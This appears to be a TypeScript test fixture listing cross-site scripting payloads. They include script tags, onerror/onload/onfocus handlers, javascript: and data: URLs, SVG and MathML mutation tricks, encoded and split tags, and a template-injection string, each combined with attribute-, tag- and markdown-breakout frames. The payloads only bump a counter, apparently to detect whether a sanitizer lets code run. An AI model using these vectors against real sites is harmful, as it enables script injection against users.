// Texts that have run as code in some page: tags, attributes, addresses and templates, each also as what breaks out of where it
// stands. Run, each counts up `top.ran`.
const code = 'top.ran=(top.ran||0)+1';

const vectors: readonly string[] = [
  `<script>${code}</script>`,
  `<script src="data:text/javascript,${code}"></script>`,
  `<img src=x onerror="${code}">`,
  `<img/src=x/onerror="${code}">`,
  `<IMG SRC=x OnErRoR="${code}">`,
  `<img src="x:x" onerror="${code}"//`,
  `<svg onload="${code}"></svg>`,
  `<svg/onload="${code}">`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin="${code}" attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${code}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${code}">x</math>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<object data="javascript:${code}"></object>`,
  `<embed src="javascript:${code}">`,
  `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
  `<input autofocus onfocus="${code}">`,
  `<select autofocus onfocus="${code}"></select>`,
  `<details open ontoggle="${code}">x</details>`,
  `<video><source onerror="${code}"></video>`,
  `<audio src=x onerror="${code}"></audio>`,
  `<body onload="${code}">`,
  `<marquee onstart="${code}">x</marquee>`,
  `<form><button formaction="javascript:${code}">x</button></form>`,
  `<base href="javascript:${code}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  `<link rel="stylesheet" href="javascript:${code}">`,
  `<style>@import "javascript:${code}";</style>`,
  `<div style="background:url(javascript:${code})">x</div>`,
  `<template><img src=x onerror="${code}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${code}'>"></p></noscript>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `&lt;img src=x onerror="${code}"&gt;`,
  `&#60;img src=x onerror=&#34;${code}&#34;&#62;`,
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `{{constructor.constructor('${code}')()}}`,
];

const frames: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'></textarea></title></style></script>${vector}`,
  (vector) => `--></svg></text>]]>${vector}`,
  (vector) => `[x](javascript:top.ran=1) ![${vector}](x) \`${vector}`,
];

export const xssPayloads: readonly string[] = vectors.flatMap((vector) => frames.map((frame) => frame(vector)));
